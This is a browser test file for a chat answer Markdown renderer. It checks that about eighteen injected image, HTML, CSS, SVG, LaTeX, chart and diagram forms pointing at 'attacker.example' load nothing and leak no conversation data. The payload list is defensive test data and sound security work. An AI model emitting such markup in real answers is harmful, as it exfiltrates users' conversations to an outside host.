import { expect, it } from 'vitest'
import { render } from 'vitest-browser-react'
import Markdown from './markdown.tsx'

const attackerUrl = 'https://attacker.example/'
const leakUrl = (name: string) => `${attackerUrl}${name}?d=PEARL-1844`

/** Each would leak the conversation if it were loaded. */
const forms = [
  `![x](${leakUrl('picture')})`,
  `![x][ref]\n\n[ref]: ${leakUrl('reference')}`,
  `[![x](${leakUrl('linked')})](${leakUrl('link')})`,
  `| a |\n| --- |\n| ![x](${leakUrl('table')}) |`,
  `Note[^1]\n\n[^1]: ![x](${leakUrl('footnote')})`,
  `![x](//attacker.example/relative?d=PEARL-1844)`,
  `<img src="${leakUrl('img')}">`,
  `<picture><source srcset="${leakUrl('srcset')}"><img></picture>`,
  `<video poster="${leakUrl('poster')}" src="${leakUrl('video')}"></video>`,
  `<iframe src="${leakUrl('iframe')}"></iframe><object data="${leakUrl('object')}"></object>`,
  `<link rel="preload" href="${leakUrl('preload')}"><style>@import "${leakUrl('import')}"</style>`,
  `<p style="background:url(${leakUrl('background')})">x</p>`,
  `<svg><image href="${leakUrl('svg')}"/><use href="${leakUrl('use')}"/></svg>`,
  `<script src="${leakUrl('script')}"></script><base href="${attackerUrl}"><form action="${attackerUrl}"><input autofocus></form>`,
  `<details open ontoggle="fetch('${leakUrl('event')}')">x</details>`,
  `$\\includegraphics{${leakUrl('formula')}}$ and $\\href{${leakUrl('formula-link')}}{x}$`,
  `\`\`\`chart\n{"v":1,"type":"bar","image":"${leakUrl('chart')}","columns":[],"rows":[]}\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src='${leakUrl('diagram')}'>"] --> B; click A "${leakUrl('click')}"\n\`\`\``,
]

const loadingSelector =
  'img, picture, source, video, audio, iframe, object, embed, link, script, style, base, form, image, use'

it('CHT-02 loads nothing from elsewhere for an answer, showing links without a referrer', async () => {
  performance.clearResourceTimings()
  const { container } = await render(
    <Markdown text={forms.join('\n\n')} citations={[]} isStreaming={false} onCite={() => undefined} />,
  )
  await expect.poll(() => container.querySelector('.answer-image')).not.toBeNull()
  // mermaid loads first
  const diagram = () => container.querySelector('.answer-diagram img') ?? container.querySelector('p.text-13')
  await expect.poll(diagram, { timeout: 20_000 }).not.toBeNull()
  const loadingElements = [...container.querySelectorAll(loadingSelector)].filter((element) =>
    element
      .getAttributeNames()
      // an SVG in a data URL loads nothing, whatever it contains
      .filter((name) => name !== 'alt' && !element.getAttribute(name)?.startsWith('data:'))
      .some((name) => element.getAttribute(name)?.includes('attacker.example')),
  )
  expect(loadingElements.map(({ outerHTML }) => outerHTML)).toEqual([])
  expect(container.querySelectorAll('[style*="attacker"], [ontoggle]')).toHaveLength(0)
  for (const link of container.querySelectorAll('a[href*="attacker.example"]'))
    expect(link.getAttribute('rel')).toContain('noreferrer')
  const requestUrls = performance.getEntriesByType('resource').map(({ name }) => name)
  expect(requestUrls.filter((name) => name.startsWith(attackerUrl))).toEqual([])
}, 30_000)
